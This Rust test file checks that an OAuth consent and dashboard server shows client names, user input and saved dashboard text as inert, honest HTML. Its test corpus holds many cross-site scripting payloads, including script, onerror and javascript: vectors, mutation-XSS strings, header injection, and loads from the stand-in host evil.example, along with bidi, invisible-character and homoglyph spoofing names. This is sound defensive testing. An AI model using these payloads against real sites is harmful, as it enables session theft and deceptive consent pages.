//! What clients, people and tools write is text on every page, whatever it holds: the same elements and attributes as with a plain name, and no letter that
//! hides, turns or piles up others.
//!
//! Pages are read by the parser of a browser engine, not searched for strings.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use lookout_server::authority::records::Role;
use lookout_server::store::workspace::{DashboardSave, SaveOutcome};
use lookout_server::visible;
use scraper::{ElementRef, Html};
use serde_json::json;

use crate::browser::{Browser, authorize_path, csrf_of};
use crate::server::{CALLBACK, EMAIL, Reply, Server};
use crate::site::{Answer, Site};

/// What others might write.
const CORPUS: &[&str] = &[
    // Elements, and ways out of where a name stands.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><script>alert(1)</script>",
    "'><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "\"><img src=x onerror=\"alert(1)",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=//evil.example><input name=csrf>",
    "<input type=hidden name=decision value=allow>",
    "<button form=sign-out formaction=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "</title><script>alert(1)</script>",
    "</q></p></main></body></html><h1>Allow",
    "</bdi></option></select><button name=decision value=allow>",
    "</textarea></pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><?xml version=\"1.0\"?>",
    // Attributes.
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "x` onclick=`alert(1)",
    "\" style=\"position:fixed;inset:0",
    " onload=alert(1) x=",
    // Templates and entities.
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% raw %}{{ csrf }}{% endraw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "&amp;&quot;&apos;&NotAnEntity;&#0;&",
    // What changes when it is parsed twice.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    // Nothing, controls and line breaks.
    "a\0b<script\0>alert(1)</script>",
    "a\r\nSet-Cookie: sid=x\r\n\r\n<b>b",
    "a\u{1b}[31mb\u{8}\u{7f}\u{85}\u{9b}c\u{2028}d\u{2029}e",
    // Direction.
    "Safe \u{202e}elpmaxe.live\u{202c} app",
    "\u{2066}\u{2067}\u{2068}a\u{2069} \u{200e}\u{200f}\u{61c}\u{202a}\u{202b}\u{202d}b",
    "שלום \u{5d0}/\u{5d1} https://app.example",
    // What cannot be seen.
    "Cl\u{200b}au\u{200d}de\u{feff}\u{2060}\u{ad}\u{34f}\u{180e}",
    "\u{200b}\u{3164}\u{115f}\u{ffa0}\u{2800}",
    "a\u{e0001}\u{e0041}\u{e007f}b\u{fe0f}\u{e0100}c",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}a\u{20dd}\u{20de}\u{489}",
    "\u{e000}\u{f8ff}\u{fffe}\u{ffff}",
    // Other letters.
    "Cl\u{430}ude",
    "p\u{430}yments",
    "\u{441}\u{43e}\u{441}\u{430}",
    "\u{ff34}\u{ff4f}\u{ff4f}\u{ff4c}",
    "\u{1d402}ursor",
    "名前 データ 🙂",
    "   ",
];

/// A name that no page has otherwise.
const PLAIN: &str = "Qwertz";

/// The corpus, and text that is very long, in one word and in many.
fn corpus() -> impl Iterator<Item = String> {
    let long = ["w".repeat(3000), "many words ".repeat(300), "<b>".repeat(900)];
    CORPUS.iter().map(|&text| text.to_owned()).chain(long)
}

/// A page as a browser has it: every element with the names of its attributes, and the text.
#[derive(Debug, PartialEq)]
struct Seen {
    elements: Vec<String>,
    text: String,
}

fn seen(page: &str) -> Seen {
    let document = Html::parse_document(page);
    let elements = document.tree.nodes().filter_map(ElementRef::wrap).map(|element| {
        let value = element.value();
        let attributes: BTreeSet<&str> = value.attrs().map(|(name, _)| name).collect();
        format!("{} {attributes:?}", value.name())
    });
    // Times and identifiers differ from page to page.
    let text = document.root_element().text().collect::<String>();
    let text = text.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect();
    Seen { elements: elements.collect(), text }
}

/// What nobody can see, or what turns the order of what is around it. Tabs and line breaks are the page's own.
fn deceives(c: char) -> bool {
    (c.is_control() && !"\n\t".contains(c))
        || matches!(
            c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{feff}'
        )
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
        || matches!(c, '\u{3164}' | '\u{ffa0}' | '\u{2800}' | '\u{fe00}'..='\u{fe0f}')
        || matches!(c, '\u{e000}'..='\u{f8ff}' | '\u{fffe}' | '\u{ffff}' | '\u{e0000}'..='\u{e0fff}')
}

/// Whether `page` is `plain` but for the text: the same elements with the same attributes, none of which runs or leads elsewhere.
fn is_inert(page: &str, plain: &str) -> Result<(), String> {
    let (with, without) = (seen(page), seen(plain));
    if let Some(at) = (0..with.elements.len().max(without.elements.len()))
        .find(|&at| with.elements.get(at) != without.elements.get(at))
    {
        let [found, expected] = [&with, &without].map(|page| page.elements.get(at).cloned());
        return Err(format!("element {at} is {found:?}, not {expected:?}"));
    }
    let document = Html::parse_document(page);
    for element in document.tree.nodes().filter_map(ElementRef::wrap) {
        for (name, value) in element.value().attrs() {
            let is_own =
                value.starts_with('/') && !value.starts_with("//") || value.starts_with('#');
            let leads = matches!(
                name,
                "href"
                    | "src"
                    | "action"
                    | "formaction"
                    | "data"
                    | "poster"
                    | "srcset"
                    | "background"
            );
            if name.starts_with("on") || name == "style" || name == "srcdoc" || (leads && !is_own) {
                return Err(format!("{name}={value:?}"));
            }
            if value.contains("logo.evil.example") {
                return Err("the logo of a client".to_owned());
            }
        }
    }
    Ok(())
}

/// The same, and nothing on it deceives the eye.
fn is_honest(page: &str, plain: &str) -> Result<(), String> {
    is_inert(page, plain)?;
    match Html::parse_document(page)
        .root_element()
        .text()
        .flat_map(str::chars)
        .find(|&c| deceives(c))
    {
        Some(c) => Err(format!("U+{:04X} is on the page", u32::from(c))),
        None => Ok(()),
    }
}

#[track_caller]
fn assert_honest(page: &Reply, plain: &Reply, what: &str) {
    assert_eq!(page.status, plain.status, "{what:?}: {page:?}");
    if let Err(why) = is_honest(&page.text, &plain.text) {
        panic!("{what:?}: {why}: {}", page.text);
    }
}

/// A literal of SQL.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

fn without_odd_letters(page: &str) -> bool {
    !page.contains("Look twice")
}

#[test]
fn a_page_that_shows_a_name_raw_is_caught() {
    let server = Server::start();
    let mut browser = Browser::signed_in(&server);
    let plain = ask(&server, &mut browser, PLAIN);
    for name in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</q></p><h1>Allow"] {
        let page = ask(&server, &mut browser, name);
        let raw = page.text.replace("&#60;", "<").replace("&#62;", ">");
        assert_ne!(raw, page.text);
        assert!(is_inert(&raw, &plain.text).is_err(), "{raw}");
    }
    for (text, raw) in [
        ("Lookout</p>", "Lookout\u{202e}</p>"),
        ("Lookout</p>", "Look\u{200b}out</p>"),
        ("<p class=\"brand\">", "<p class=\"brand\" onclick=\"x\">"),
        ("action=\"/sign-out\"", "action=\"//evil.example\""),
    ] {
        assert!(plain.text.contains(text), "{text}");
        assert!(is_honest(&plain.text.replace(text, raw), &plain.text).is_err(), "{raw}");
    }
    assert_eq!(is_honest(&plain.text, &plain.text), Ok(()));
}

/// The consent page of a new client with this name.
fn ask(server: &Server, browser: &mut Browser<'_>, name: &str) -> Reply {
    let metadata = json!({
        "client_name": name,
        "client_uri": format!("https://evil.example/{name}"),
        "logo_uri": "https://logo.evil.example/logo.png",
        "policy_uri": "javascript:alert(1)",
        "tos_uri": name,
        "contacts": [name],
    });
    let (client, _) = server.register(&metadata);
    browser.authorize(&client, &[("state", name)])
}

/// Checks the consent page of a client called `name`.
#[track_caller]
fn assert_asks(page: &Reply, (plain, odd): (&Reply, &Reply), name: &str) {
    let shown = Some(visible::line(name, 64)).filter(|shown| !shown.is_empty());
    let shown = shown.unwrap_or_else(|| "Unnamed application".to_owned());
    if without_odd_letters(&page.text) {
        assert_honest(page, plain, name);
        let masked: String =
            shown.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect();
        assert_eq!(
            seen(&page.text).text,
            seen(&plain.text).text.replace(PLAIN, &masked),
            "{name:?}"
        );
    } else {
        assert_honest(page, odd, name);
        let text = Html::parse_document(&page.text).root_element().text().collect::<String>();
        assert!(text.contains(&shown), "{name:?}: {text}");
    }
}

#[test]
fn what_a_client_says_of_itself_at_registration_is_text_on_the_consent_page() {
    let server = Server::start();
    let mut browser = Browser::signed_in(&server);
    let plain = ask(&server, &mut browser, PLAIN);
    let odd = ask(&server, &mut browser, "Qw\u{435}rtz");
    assert!(without_odd_letters(&plain.text) && !without_odd_letters(&odd.text), "{odd:?}");
    let mut flagged = Vec::new();
    for name in corpus() {
        let page = ask(&server, &mut browser, &name);
        assert_asks(&page, (&plain, &odd), &name);
        if !without_odd_letters(&page.text) {
            flagged.push(name);
        }
    }
    for name in ["Cl\u{430}ude", "p\u{430}yments", "\u{441}\u{43e}\u{441}\u{430}", "\u{1d402}ursor"]
    {
        assert!(flagged.iter().any(|flagged| flagged == name), "{name}: {flagged:?}");
    }
}

#[test]
fn what_a_client_says_of_itself_in_its_document_is_text_on_the_consent_page() {
    let server = Server::start_with(|settings| {
        settings.client_documents.allow_loopback = true;
        settings.client_documents.per_minute = 1000;
        settings.client_documents.failure_kept = 0;
    });
    let site = server.runtime.block_on(Site::start(Ipv4Addr::LOCALHOST, 0, None, Answer::Nothing));
    let client = format!("http://{}/client.json", site.address);
    let mut browser = Browser::signed_in(&server);
    let mut ask = |name: &str| {
        let document = json!({
            "client_id": client,
            "client_name": name,
            "client_uri": format!("https://evil.example/{name}"),
            "logo_uri": "https://logo.evil.example/logo.png",
            "redirect_uris": [CALLBACK],
            "token_endpoint_auth_method": "none",
        });
        site.answer(Answer::json(&document.to_string()));
        server.sql("update clients set document_fresh_until = 0");
        browser.authorize(&client, &[("state", name)])
    };
    let (plain, odd) = (ask(PLAIN), ask("Qw\u{435}rtz"));
    let nameless = ask("");
    assert_eq!(nameless.status, 400);
    for name in corpus().filter(|name| name.len() < 1000) {
        let page = ask(&name);
        if visible::line(&name, 64).is_empty() {
            assert_honest(&page, &nameless, &name);
        } else {
            assert!(page.text.contains("Verified:"), "{name:?}: {page:?}");
            assert_asks(&page, (&plain, &odd), &name);
        }
    }
}

#[test]
fn what_a_request_holds_is_text_on_the_pages_that_refuse_it() {
    type Refused = (&'static str, fn(&Server, &mut Browser<'_>, &str, &str) -> Reply);
    let pages: [Refused; 9] = [
        ("client_id", |_, browser, _, text| browser.authorize(text, &[])),
        ("redirect_uri", |_, browser, client, text| {
            browser.authorize(client, &[("redirect_uri", text)])
        }),
        ("state without a client", |_, browser, _, text| browser.authorize("", &[("state", text)])),
        ("an error of somebody", |_, browser, _, text| {
            browser.authorize("", &[("error", text), ("error_description", text)])
        }),
        ("return_to", |server, _, _, text| {
            let query = url::form_urlencoded::Serializer::new(String::new())
                .append_pair("return_to", text)
                .finish();
            server.get(&format!("/sign-in?{query}"), &[])
        }),
        ("a request before sign-in", |server, _, client, text| {
            let path = authorize_path(client, &[("state", text)]);
            let to = server.get(&path, &[]).header("location").to_owned();
            server.get(&to, &[])
        }),
        ("a path", |server, _, _, text| {
            let path: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
            server.get(&format!("/x{path}"), &[("accept", "text/html")])
        }),
        ("a workspace", |_, browser, _, text| {
            let path: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
            browser.get(&format!("/w/x{path}/mcp/tokens"))
        }),
        ("a form", |_, browser, _, text| {
            browser.post("/oauth/consent", &[("request", text), ("csrf", text), ("decision", text)])
        }),
    ];
    let server = Server::start();
    let client = server.client();
    let mut browser = Browser::signed_in(&server);
    for (place, get) in pages {
        let plain = get(&server, &mut browser, &client, PLAIN);
        assert!(plain.header("content-type").starts_with("text/html"), "{place}: {plain:?}");
        for text in corpus() {
            let page = get(&server, &mut browser, &client, &text);
            // An address of many thousand bytes is refused before any page.
            if page.header("content-type").starts_with("text/html") {
                assert_honest(&page, &plain, &text);
            } else {
                assert!(text.len() > 1000, "{place}: {text:?}: {page:?}");
            }
        }
    }
}

#[test]
fn what_was_typed_at_sign_in_comes_back_as_text() {
    let server = Server::start();
    let mut browser = Browser::new(&server);
    let plain = browser.sign_in(PLAIN, "wrong");
    assert!(plain.status == 401 && plain.text.contains("value=\"Qwertz\""), "{plain:?}");
    let longest = "w".repeat(3000);
    for text in CORPUS.iter().step_by(6).copied().chain(["a\u{202e}b\u{200b}", &longest]) {
        let page = browser.sign_in(text, "wrong");
        if page.status == 401 {
            assert_honest(&page, &plain, text);
        } else {
            assert_eq!(page.status, 429, "{page:?}");
        }
        let document = Html::parse_document(&page.text);
        let selector = scraper::Selector::parse("#email").unwrap();
        let typed = document.select(&selector).next().unwrap().attr("value").unwrap();
        assert!(!typed.chars().any(deceives) && typed.chars().count() <= 254, "{typed:?}");
    }
}

#[test]
fn what_people_and_workspaces_are_called_is_text_on_every_page() {
    let server = Server::start();
    server.add_person(EMAIL, "second", Role::Owner);
    let client = server.client();
    let mut browser = Browser::signed_in(&server);
    let mut pages = |name: &str| {
        let name = quoted(name);
        server.sql(&format!(
            "update users set display_name = {name}; update workspaces set name = {name};"
        ));
        let paths = [
            "/",
            "/account",
            "/settings/integrations",
            "/w/demo/mcp/tokens",
            "/w/demo/mcp/clients",
        ];
        let mut pages: Vec<(&str, Reply)> = paths.map(|path| (path, browser.get(path))).into();
        pages.push(("consent", browser.authorize(&client, &[])));
        pages
    };
    let plain = pages(PLAIN);
    for name in corpus().filter(|name| !name.contains('\0')) {
        let shown = Some(visible::line(&name, 120)).filter(|shown| !shown.is_empty());
        let shown = shown.unwrap_or_else(|| "(no name)".to_owned());
        for ((path, page), (_, plain)) in pages(&name).iter().zip(&plain) {
            assert_honest(page, plain, &name);
            let text = Html::parse_document(&page.text).root_element().text().collect::<String>();
            assert!(text.contains(&shown), "{path}: {shown:?}: {text}");
        }
    }
}

#[test]
fn what_tokens_and_connections_are_called_is_text_in_their_lists() {
    let count = corpus().count();
    let lists = |name: &dyn Fn(usize) -> String| {
        let server = Server::start_with(|settings| settings.limits.tokens_per_person = 1000);
        let mut browser = Browser::signed_in(&server);
        let csrf = csrf_of(&browser.get("/w/demo/mcp/tokens"), "/w/demo/mcp/tokens");
        for number in 0..count {
            let form = [
                ("csrf", csrf.as_str()),
                ("name", &name(number)),
                ("scope", "mcp:read"),
                ("days", "30"),
            ];
            let page = browser.post("/w/demo/mcp/tokens", &form);
            assert_eq!(page.status, 200, "{page:?}");
            let (client, _) = server.register(&json!({ "client_name": name(number) }));
            browser.connect(&client);
        }
        [browser.get("/w/demo/mcp/tokens"), browser.get("/w/demo/mcp/clients")]
    };
    let names: Vec<String> =
        corpus().enumerate().map(|(number, name)| format!("{number} {name}")).collect();
    let plain = lists(&|number| format!("{number} {PLAIN}"));
    for (page, plain) in lists(&|number| names[number].clone()).iter().zip(&plain) {
        assert_honest(page, plain, "a list");
        let text = Html::parse_document(&page.text).root_element().text().collect::<String>();
        // A form has another character where a name had none that can be stored.
        for name in names.iter().filter(|name| !name.contains('\0')) {
            let shown = visible::line(name, 64);
            assert!(text.contains(&shown), "{shown:?}: {text}");
        }
    }
}

#[test]
fn what_a_tool_saved_is_text_on_the_dashboard() {
    let server = Server::start();
    let (_, workspace) = server.add_person("tool@lookout.example", "demo", Role::Member);
    let mut browser = Browser::signed_in(&server);
    // As the store takes it, which is more than the tool does.
    let mut save = |number: usize, text: &str| {
        let saving = server.app.store.save_dashboard(DashboardSave {
            workspace: workspace.workspace_id.clone(),
            replaces: None,
            new_id: format!("d-{number}"),
            slug: format!("d-{number}"),
            title: text.to_owned(),
            description: text.to_owned(),
            spec: json!({ "parameters": [], "panels": [{
                "id": "panel", "title": text, "type": "table", "width": "full", "order": 0,
                "sql": format!("select {} as x", quoted(text)),
            }] }),
            by: text.to_owned(),
            by_tool: true,
            idempotency: None,
        });
        assert_eq!(server.runtime.block_on(saving).unwrap(), SaveOutcome::Saved);
        browser.get(&format!("/w/demo/d/d-{number}"))
    };
    let plain = save(0, PLAIN);
    assert!(plain.status == 200 && plain.text.contains(PLAIN), "{plain:?}");
    for (number, text) in corpus().enumerate() {
        let page = save(number + 1, &text);
        assert_eq!(page.status, 200, "{text:?}: {page:?}");
        if let Err(why) = is_inert(&page.text, &plain.text) {
            panic!("{text:?}: {why}: {}", page.text);
        }
    }
}
